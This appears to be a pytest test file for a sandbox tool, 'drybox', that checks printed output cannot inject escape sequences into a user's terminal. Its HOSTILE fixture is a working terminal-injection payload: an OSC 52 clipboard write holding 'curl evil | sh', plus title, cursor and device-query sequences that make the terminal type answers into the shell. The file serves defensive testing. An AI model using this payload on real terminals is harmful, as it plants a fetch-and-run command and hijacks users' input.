"""What a program prints does nothing to its user's terminal but show itself there."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from tests.support.cli import drybox
from tests.support.server import serving
from tests.support.terminal import END, terminal

pytestmark = pytest.mark.promise("ISO-28")

COPY = b"curl evil | sh\n"
HOSTILE = "".join(
    (
        f"\x1b]52;c;{base64.b64encode(COPY).decode()}\x07",  # what is pasted next
        "\x1b]0;not yours\x07",  # a title, and then the question for it
        "\x1b[21t\x1b[6n\x1b[c\x05",  # answers that are typed into the shell
        "\x1b[?1003h\x1b[?2004l",  # what the mouse and keys send
    )
)
SHOWN = "\x1b[31mred\x1b[0m\x1b[3Dgreen"

CODE = f"import sys\nprint({HOSTILE + SHOWN!r})\nprint({HOSTILE!r}, file=sys.stderr)\n"

PRINTS = f"printf '{HOSTILE + SHOWN}'; printf '{HOSTILE}' >&2".replace("\x1b", "\\033").replace(
    "\x07", "\\007"
)
ASKS = (b"52;", b"not yours", b"21t", b"[6n", b"[c", b"\x05", b"1003h")


def is_harmless(raw: bytes) -> bool:
    return SHOWN.encode() in raw and not any(asked in raw for asked in ASKS)


def test_a_program_in_a_terminal(tmp_path: Path) -> None:
    (tmp_path / "main.py").write_text(CODE)
    with terminal("run", "main.py", cwd=tmp_path, env={"DRYBOX_ISOLATION": "local"}) as run:
        assert run.end() == 0
        assert is_harmless(run.raw)


def test_whoever_reads_a_pipe_has_all_of_it(tmp_path: Path) -> None:
    done = drybox("run", "-l", "python", "-", stdin=CODE.encode(), cwd=tmp_path)
    assert done.stdout.decode() == HOSTILE + SHOWN + "\n"
    assert done.stderr.decode() == HOSTILE + "\n"


def test_code_in_drybox_repl(tmp_path: Path) -> None:
    env = {"XDG_DATA_HOME": str(tmp_path / "data"), "DRYBOX_ISOLATION": "local"}
    text = (HOSTILE + SHOWN).encode().hex()
    with terminal("repl", cwd=tmp_path, env=env) as repl:
        repl.until("In [1]:")
        repl.type(f"text = bytes.fromhex('{text}').decode()\r")
        repl.until("In [2]:")
        before = len(repl.raw)
        for code in (
            "print(text)",
            "type('Shown', (), {'__repr__': lambda self: text})()",
            "raise ValueError(text)",
            "from IPython.display import display; display({text: text}, raw=True)",
        ):
            repl.type(f"{code}\r")
            repl.until(f"In [{repl_number(repl.text) + 1}]:")
        shown = repl.raw[before:]
        repl.type(END)
        assert repl.end() == 0
    for asked in (COPY, b"52;c", b"\x1b]0;not", b"\x1b[21t", b"\x1b[6n", b"\x1b[c", b"\x1b[?1003h"):
        assert asked not in shown
    assert SHOWN.encode() in shown


def repl_number(text: str) -> int:
    """The number of the last prompt."""
    return int(text.rpartition("In [")[2].partition("]")[0])


def test_a_session_of_a_server(tmp_path: Path) -> None:
    with serving() as server:
        env = {"DRYBOX_SERVER": f"http://127.0.0.1:{server.port}"}
        done = drybox("session", "start", "-l", "bash", env=env)
        id = done.stdout.decode().strip()
        for words in (("run", id, "-c", PRINTS), ("exec", id, PRINTS)):
            with terminal("session", *words, env=env) as session:
                assert session.end() == 0
                assert is_harmless(session.raw)
